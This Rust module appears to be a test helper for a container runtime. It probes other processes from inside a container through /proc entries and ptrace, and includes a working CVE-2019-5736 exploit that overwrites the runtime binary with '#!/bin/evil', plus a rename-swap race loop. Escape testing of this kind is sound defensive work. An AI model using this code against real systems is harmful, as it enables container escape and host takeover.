//! What root of a container tries on every process that comes along: to look into it, to hold it,
//! and to change the program that it runs.

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;

use crate::act::say;

/// Goes on until it is killed; says each way that led to a process of another program.
pub fn on_all() -> i32 {
    let own = std::process::id() as i32;
    let own_program = fs::read_link("/proc/self/exe").expect("an own program");
    let mut said = BTreeSet::new();
    say("ready");
    loop {
        let processes = fs::read_dir("/proc").expect("/proc").flatten();
        let numbers = processes.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
        for pid in numbers.filter(|pid| *pid != 1 && *pid != own) {
            let program = fs::read_link(format!("/proc/{pid}/exe"));
            // The container's own program, once it is that.
            if program.as_ref().is_ok_and(|program| *program == own_program) {
                continue;
            }
            for (way, worked) in try_all(pid, program.is_ok()) {
                if worked && !has_become_own(pid) && said.insert(way) {
                    say(&format!("reached {way}"));
                }
            }
        }
    }
}

/// Whether what was reached is, or was until it ended, the container's own program: its name stays
/// when all else of a process is gone, and until it is reaped.
fn has_become_own(pid: i32) -> bool {
    let name = |pid: &str| fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
    let now = name(&pid.to_string());
    now.is_empty() || now == name("self")
}

fn try_all(pid: i32, sees_program: bool) -> [(&'static str, bool); 6] {
    let can_open = |name: &str| File::open(format!("/proc/{pid}/{name}")).is_ok();
    // The numbers alone lead nowhere.
    let descriptors = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
    let can_follow = descriptors.map(|fd| fd.path()).any(|fd| fs::read_link(fd).is_ok());
    [
        ("exe", sees_program),
        ("root", can_open("root/")),
        ("cwd", can_open("cwd/")),
        ("mem", can_open("mem")),
        ("fd", can_follow),
        ("ptrace", can_hold(pid)),
    ]
}

/// PTRACE_SEIZE, and lets go again.
fn can_hold(pid: i32) -> bool {
    // SAFETY: both requests take no address; the process is let go before anything else is asked.
    unsafe {
        let held = libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) == 0;
        if held {
            libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0, 0);
            libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
            libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
        }
        held
    }
}

/// Waits for a process whose program's name holds `name`, and writes over that program
/// (CVE-2019-5736).
pub fn overwrite(name: &str) -> io::Result<()> {
    say("ready");
    let program = loop {
        let found = fs::read_dir("/proc")?.flatten().find_map(|entry| {
            let pid: i32 = entry.file_name().to_str()?.parse().ok()?;
            let path = format!("/proc/{pid}/exe");
            let is_it = fs::read_link(&path).ok()?.to_string_lossy().contains(name);
            if !is_it || pid == 1 {
                return None;
            }
            let program =
                OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(path).ok()?;
            Some((pid, program))
        });
        if let Some(found) = found {
            break found;
        }
    };
    let (pid, program) = program;
    clear_read_only(&program);
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    // SAFETY: takes two integers.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    loop {
        match OpenOptions::new().write(true).open(&path) {
            // Until it has ended.
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {}
            Err(error) => return Err(error),
            Ok(mut file) => return io::Write::write_all(&mut file, b"#!/bin/evil\n"),
        }
    }
}

/// Exchanges two names until it is killed.
pub fn swap(one: &OsStr, other: &OsStr) -> io::Result<()> {
    use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
    say("ready");
    loop {
        renameat2(AT_FDCWD, one, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE)?;
    }
}

/// What a mount that is not attached anywhere lets its owner do: make it writable.
fn clear_read_only(program: &File) {
    let attributes = [0_u64, libc::MOUNT_ATTR_RDONLY, 0, 0];
    // SAFETY: `attributes` is laid out as struct mount_attr and lives through the call.
    unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            program.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            attributes.as_ptr(),
            size_of_val(&attributes),
        );
    }
}
